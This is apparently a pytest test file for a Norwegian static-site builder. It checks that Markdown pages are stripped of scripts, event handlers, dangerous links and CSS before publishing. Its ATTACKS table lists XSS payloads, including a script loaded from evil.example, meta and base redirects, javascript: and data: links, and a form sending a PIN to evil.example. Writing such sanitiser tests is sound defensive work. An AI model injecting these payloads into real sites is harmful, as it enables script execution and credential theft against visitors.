"""Pages and files that people write in content/ run nothing, lead nowhere bad and hide nothing."""

import datetime as dt
import re
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path

import documents as made
import pytest
from contentfiles import put
from hypothesis import given
from hypothesis import strategies as st

from motebok.diagnostics import Severity
from motebok.frames import FrameKind, Frames, build_frames
from motebok.pipeline.building import Built, Job, build
from motebok.text.pages import Kind, LeftOut, sanitise_page

NOW = dt.datetime(2026, 11, 22, 12, 0)  # noqa: DTZ001 - the institution's own time
OPENING, CLOSING = "<article", "</article>"
NO_SUCH = {"script", "iframe", "object", "embed", "form", "base", "link", "meta", "style", "svg"}
COMMITTEE = "navn: Utvalget\nsaksnummer: R {n}/{yy}\n"

ATTACKS = {
    "<script>alert('X')</script>": [(3, 2, "script")],
    "Se <script src=//evil.example/x.js></script> her.": [(3, 5, "script")],
    "</article></div></div><script>alert('X')</script>": [(3, 24, "script")],
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">': [(3, 2, "meta")],
    "<base href='https://evil.example/'>": [(3, 2, "base")],
    "<iframe src='https://evil.example/'></iframe>": [(3, 2, "iframe")],
    "<style>body { display: none }</style>": [(3, 2, "style")],
    "<form action='https://evil.example/'><input name=pin></form>": [
        (3, 2, "form"),
        (3, 39, "input"),
    ],
    "<p onclick='alert(1)' style='position: fixed'>Hei</p>": [
        (3, 4, "onclick"),
        (3, 23, "style"),
    ],
    "Hei\n{ onmouseover=alert(1) style='color: red' }": [(4, 3, "onmouseover"), (4, 24, "style")],
    "Hei\n{ .md-overlay }": [(4, 4, "md-overlay")],
    "[Her](javascript:alert(1))": [(3, 7, "javascript:alert(1)")],
    "[Her](java&#115;cript:alert)": [(1, 1, "javascript:alert")],
    "[Her](//evil.example/a)": [(3, 7, "//evil.example/a")],
    "Se [her][1].\n\n[1]: data:text/html,hei": [(5, 6, "data:text/html,hei")],
    "<javascript:alert(1)>": [(3, 2, "javascript:alert(1)")],
    "![Bilde](https://evil.example/b.png)": [(3, 10, "https://evil.example/b.png")],
    "<img src=x onerror=alert(1)>": [(3, 12, "onerror")],
    "<svg><script>alert(1)</script></svg>": [(3, 2, "svg"), (3, 7, "script")],
    "<p id=__config>{}</p>": [(3, 4, "id")],
    '## Hei { #"><script>alert(1)</script> }': [],
    "## Hei { id='\"><script>alert(1)</script>' }\n\n## Hopp": [],
    '## a" onmouseover="alert(1)\n\n### Under\n\n## Hopp': [],
    "## <script>alert(1)</script>\n\n## Hopp": [(3, 5, "script")],
    "``<script>alert(1)</script>`` er kode": [],
    "    <script>alert(1)</script>": [],
    "<!-- <script>alert(1)</script> -->Hei": [],
    "<p>motebok-slot-end</p><script>alert(1)</script>": [(3, 25, "script")],
}
"""What is written below a heading, and what is told: line, column, and what was left out."""


class _Parsed(HTMLParser):
    """The start tags of a page, apart for what stands in its article and around it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Frames:
    root = tmp_path_factory.mktemp("attacked")
    pages: dict[str, str | bytes] = {
        f"a{number}.md": f"# Side\n\n{attack}\n" for number, attack in enumerate(ATTACKS)
    }
    pages["index.md"] = "# Hei\n\n" + "\n\n".join(ATTACKS)
    pages["ren.md"] = "# Side\n\nHei\n"
    config = put(root, pages)
    return build_frames(config, [FrameKind("", 0, "nb"), FrameKind("x", 1, "nb")], root / "work")


def article(frames: Frames, page: str) -> str:
    html = frames.files[f"{page}/index.html"].read_text("utf-8")
    assert (html.count(OPENING), html.count(CLOSING)) == (1, 1), html
    return html.partition(OPENING)[2].partition(CLOSING)[0]


def harmful(html: str) -> list[str]:
    """What of the page's tags can run, style, fetch or lead away."""
    found = []
    for tag, attributes in _Parsed(html).tags:
        if tag in NO_SUCH:
            found.append(tag)
        found += [each for each in attributes if each.startswith("on") or each == "style"]
        found += [
            value
            for name, value in attributes.items()
            if name in {"href", "src"} and re.match(r"\s*(//|javascript|data|https?)", value)
        ]
        found += [attributes["id"]] if attributes.get("id", "").startswith("__") else []
    return found


@pytest.mark.build
def test_nothing_of_an_attack_is_in_the_page(
    attacked: Frames, reached: Callable[[str], None]
) -> None:
    for number, attack in enumerate(ATTACKS):
        assert harmful(article(attacked, f"a{number}")) == [], attack
    assert harmful(attacked.welcome["nb"]) == []
    reached(f"{len(ATTACKS)} attacks")


@pytest.mark.build
def test_around_a_page_an_attack_changes_no_tag(attacked: Frames) -> None:
    def around(page: str) -> list[tuple[str, list[str]]]:
        html = attacked.files[f"{page}/index.html"].read_text("utf-8")
        before, _, rest = html.partition(OPENING)
        kept = before + rest.partition(CLOSING)[2]
        tags = _Parsed(kept).tags
        return [(tag, list(each)) for tag, each in tags if each.get("class") != "md-skip"]

    for number, attack in enumerate(ATTACKS):
        assert around(f"a{number}") == around("ren"), attack


@pytest.mark.build
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_left_out_of_a_page_is_told_at_its_place(attacked: Frames, attack: str) -> None:
    path = f"content/a{list(ATTACKS).index(attack)}.md"
    found = [each for each in attacked.diagnostics if each.position.path == path]
    found = [each for each in found if each.code != "content-links-resolve"]
    assert {each.severity for each in found} <= {Severity.WARNING}
    assert [
        (each.position.line, each.position.column, dict(each.message.values).popitem()[1])
        for each in found
    ] == ATTACKS[attack]


@pytest.mark.build
def test_code_that_is_shown_stays(attacked: Frames) -> None:
    shown = article(attacked, f"a{list(ATTACKS).index('    <script>alert(1)</script>')}")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown


@pytest.mark.build
def test_frames_hold_no_more_scripts_than_the_theme_has(attacked: Frames, tmp_path: Path) -> None:
    kinds = list(attacked.kinds)
    clean = build_frames(put(tmp_path, {"index.md": "# Hei\n"}), kinds, tmp_path / "work")
    scripts = re.compile(r"<script.*?</script>", re.DOTALL)
    for kind in kinds:
        ours, theirs = ("".join(each.kinds[kind].parts) for each in (attacked, clean))
        assert scripts.findall(ours) == scripts.findall(theirs) != []


def site(root: Path, extra: str) -> tuple[Built, Path]:
    """The site of an archive with one page, which ends with `extra`."""
    put(root, {"index.md": f"# Hei\n\n{extra}\n", "om.md": f"# Om\n\n{extra}\n"})
    home = root / "meetings/utvalget"
    home.mkdir(parents=True)
    (home / "committee.yml").write_text(COMMITTEE, encoding="utf-8")
    with ThreadPoolExecutor(1) as executor:
        built = build(Job(root, root / "site", NOW), executor, lambda _done, _all: None)
    return built, root / "site"


@pytest.mark.build
def test_a_script_in_content_changes_no_byte_of_the_policy_and_is_not_in_the_page(
    tmp_path: Path,
) -> None:
    attack = "<script>alert('X')</script>"
    (calm, before), (_, after) = site(tmp_path / "a", ""), site(tmp_path / "b", attack)
    assert calm.changes is not None, calm.checked.diagnostics
    policy = (before / "nginx/headers.conf").read_bytes()
    assert policy.count(b"sha256-") > 0
    assert (after / "nginx/headers.conf").read_bytes() == policy
    page = (after / "om/index.html").read_text("utf-8")
    assert "alert('X')" not in page
    assert page.split() == (before / "om/index.html").read_text("utf-8").split()


@pytest.mark.build
def test_a_page_does_not_take_the_place_of_one_of_the_archive(tmp_path: Path) -> None:
    put(tmp_path, {"moter.md": "# Falsk\n", "utvalget/index.md": "# Falsk\n"})
    built, out = site(tmp_path, "")
    errors = [each for each in built.checked.diagnostics if each.severity is Severity.ERROR]
    assert [(each.code, each.position.path) for each in errors] == [
        ("addresses-are-free", "content/moter.md"),
        ("addresses-are-free", "content/utvalget/index.md"),
    ]
    assert not out.exists()


RICH = """\
# Side

[TOC]

## Del { #del }

!!! warning "Pass på"

    Tekst[^1] med HTML, `kode` og <kbd>Ctrl</kbd>.

??? tip "Tips"

    - en
    - to

| A | B |
|---|--:|
| 1 | 2 |

```yaml
nøkkel: {a: 1}  # merknad
```

Ord
:   Forklaring

<abbr title="Hypertekst">HTML</abbr>, [hjelp](side.md), [e-post](mailto:arkiv@example.no).

![Bilde](bilde.png "Tittel")

[^1]: Note.
"""


@pytest.mark.build
def test_all_that_markdown_makes_comes_through(tmp_path: Path) -> None:
    pages: dict[str, str | bytes] = {
        "index.md": "# Hei\n",
        "side.md": RICH,
        "bilde.png": made.png(),
    }
    frames = build_frames(put(tmp_path, pages), [FrameKind("", 0, "nb")], tmp_path / "work")
    assert frames.diagnostics == ()
    html = article(frames, "side")
    for part in (
        '<h2 id="del">Del<a class="headerlink" href="#del" title="Fast lenke til denne delen">#',
        '<div class="admonition warning">', '<p class="admonition-title">Pass på</p>',
        '<details class="tip">', "<kbd>Ctrl</kbd>", '<td align="right">2</td>',
        '<span class="nt">nøkkel</span>', '<sup id="fnref:1">', '<li id="fn:1">', "<dt>Ord</dt>",
        '<abbr title="Hypertekst">', '<a href="mailto:arkiv@example.no">', '<div class="toc">',
        '<img alt="Bilde" src="../bilde.png" title="Tittel">', 'class="footnote-backref"',
    ):  # fmt: skip
        assert part in html


@given(st.lists(st.sampled_from([
    "<", ">", "</", "<!", "<![", "<!--", "-->", "<?", "]]>", "a", "script", "svg", "math", "p",
    "style", "title", "noscript", "template", " ", "=", '"', "'", "href", "src", "onclick", "id",
    "javascript:", "//", "alert(1)", "&", "&#115;", "\0", "\n", "/", "x",
])))  # fmt: skip
def test_whatever_is_written_only_what_is_on_the_list_comes_out(pieces: list[str]) -> None:
    clean, _ = sanitise_page("".join(pieces))
    assert harmful(clean) == []
    assert sanitise_page(clean) == (clean, ())


def test_each_thing_that_is_left_out_is_found_once() -> None:
    _, left_out = sanitise_page("<marquee></marquee><marquee a=b></marquee><a href=x: class=y>")
    assert left_out == (
        LeftOut(Kind.TAG, "marquee"),
        LeftOut(Kind.LINK, "x:"),
        LeftOut(Kind.WORD, "y"),
    )
